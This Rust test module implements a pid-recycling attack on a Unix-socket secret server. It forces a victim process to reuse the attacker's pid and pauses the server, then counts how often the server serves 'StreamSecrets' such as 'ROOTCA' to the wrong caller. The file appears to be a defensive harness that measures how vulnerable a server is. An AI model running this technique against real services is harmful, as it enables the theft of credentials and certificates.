//! The attack by a recycled pid: the attacker connects and ends, and a process of the victim gets the pid before the server reads the
//! evidence.
//!
//! The test has abilities that no attacker has: it chooses the next pid (`ns_last_pid`), starts the victim's process at that moment, and
//! stops the server meanwhile. It counts the attempts in which the pid was the victim's from before the lookup until after the answer.

use std::{
    fs,
    io::{BufRead, BufReader, Read, Write},
    os::unix::net::UnixStream,
    path::Path,
    process::{ChildStdin, ChildStdout, Command, Stdio},
    time::Duration,
};

use nix::{
    sys::signal::{Signal, kill},
    unistd::Pid,
};

use super::{fresh_socket, http2, me};

/// Number of attempts to get the pid before an attack is given up.
const RECYCLINGS: usize = 50;
/// Limit for an answer, which takes milliseconds.
const ANSWER: Duration = Duration::from_secs(10);

/// `SOCKET SERVER TRIES VICTIM BREEDER…`: the server's first argument, by which its process is found, or `-` to leave it running; the
/// victim's mark in its cgroups; and the command that starts processes in them.
pub(crate) fn attack(words: &[&str]) {
    let [path, server, tries, victim, breeder @ ..] = words else { panic!("{words:?}") };
    let server = (*server != "-").then(|| pid_of(server));
    let mut breeder = Breeder::start(breeder);
    let request = http2::request("StreamSecrets", &["default", "ROOTCA"]);
    let (mut recycled, mut fooled, mut messages) = (0, 0, 0);
    let tries: usize = tries.parse().expect("a number");
    for _ in 0..tries {
        if let Some(server) = server {
            stop(server);
        }
        let (connection, pid) = connect_and_end(path);
        let taken = breeder.take(pid);
        let is_victims = || fs::read_to_string(format!("/proc/{pid}/cgroup")).is_ok_and(|text| text.contains(victim));
        let before = taken && is_victims();
        if let Some(server) = server {
            kill(server, Signal::SIGCONT).expect("the signal is sent");
        }
        let (shown, answers) = answer(connection, &request);
        recycled += usize::from(before && is_victims());
        // A naive server shows the cgroups that it read.
        fooled += usize::from(shown.windows(victim.len()).any(|window| window == victim.as_bytes()));
        messages += answers;
        if taken {
            breeder.next();
        }
    }
    println!("tries {tries} recycled {recycled} fooled {fooled} messages {messages}");
}

/// A connection whose process has ended and was reaped, and the pid of that process.
fn connect_and_end(path: &str) -> (UnixStream, i32) {
    let socket = fresh_socket();
    let stdin = socket.try_clone().expect("a second descriptor");
    let mut child = me("dial").arg(path).stdin(stdin).spawn().expect("a child");
    let pid = i32::try_from(child.id()).expect("a pid");
    assert!(child.wait().expect("a child of this process").success(), "it connects");
    (UnixStream::from(socket), pid)
}

/// All received bytes, and the number of messages in them.
fn answer(mut connection: UnixStream, request: &[u8]) -> (Vec<u8>, usize) {
    connection.set_read_timeout(Some(ANSWER)).expect("a time-out");
    // The server may already have closed the connection of a caller that it rejects.
    let _ = connection.write_all(request);
    let mut seen = Seen { from: &connection, bytes: Vec::new() };
    let (mut reader, mut messages) = (http2::Reader::default(), 0);
    while let Some(event) = reader.next(&mut seen) {
        match event {
            http2::Event::Message(_) => messages += 1,
            http2::Event::End | http2::Event::Leaving => break,
        }
    }
    (seen.bytes, messages)
}

/// Records the bytes that pass.
struct Seen<'a> {
    from: &'a UnixStream,
    bytes: Vec<u8>,
}

impl Read for Seen<'_> {
    fn read(&mut self, into: &mut [u8]) -> std::io::Result<usize> {
        let read = self.from.read(into)?;
        self.bytes.extend(&into[..read]);
        Ok(read)
    }
}

/// The process in the victim's cgroups that starts others.
struct Breeder {
    orders: ChildStdin,
    answers: BufReader<ChildStdout>,
}

impl Breeder {
    #[expect(clippy::zombie_processes, reason = "it ends with this process, which has nothing left to do then")]
    fn start(words: &[&str]) -> Self {
        let (program, arguments) = words.split_first().expect("a command");
        let mut child = Command::new(program).args(arguments).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("a breeder");
        Self { orders: child.stdin.take().expect("a pipe"), answers: BufReader::new(child.stdout.take().expect("a pipe")) }
    }

    /// Reads the next answer: the pid of a child process, or 0 when it has ended.
    fn next(&mut self) -> i32 {
        self.orders.write_all(b"\n").expect("it reads");
        let mut line = String::new();
        self.answers.read_line(&mut line).expect("it answers");
        line.trim().parse().expect("a pid")
    }

    /// Makes it start a process with this pid; returns true if that process has the pid.
    fn take(&mut self, pid: i32) -> bool {
        for _ in 0..RECYCLINGS {
            fs::write("/proc/sys/kernel/ns_last_pid", (pid - 1).to_string()).expect("a PID namespace of our own");
            if self.next() == pid {
                return true;
            }
            self.next();
        }
        false
    }
}

fn pid_of(word: &str) -> Pid {
    let processes = fs::read_dir("/proc").expect("procfs").flatten();
    let mut pids = processes.filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok());
    let is_it = |pid: &i32| fs::read_to_string(format!("/proc/{pid}/cmdline")).is_ok_and(|words| words.split('\0').nth(1) == Some(word));
    Pid::from_raw(pids.find(is_it).unwrap_or_else(|| panic!("no process was started with {word}")))
}

/// Stops every thread of a process.
fn stop(process: Pid) {
    kill(process, Signal::SIGSTOP).expect("the signal is sent");
    let stopped = |task: &Path| {
        let stat = fs::read_to_string(task.join("stat")).unwrap_or_default();
        stat.rsplit_once(") ").is_none_or(|(_, rest)| rest.starts_with('T'))
    };
    while !fs::read_dir(format!("/proc/{process}/task")).expect("it lives").flatten().all(|task| stopped(&task.path())) {
        std::thread::yield_now();
    }
}
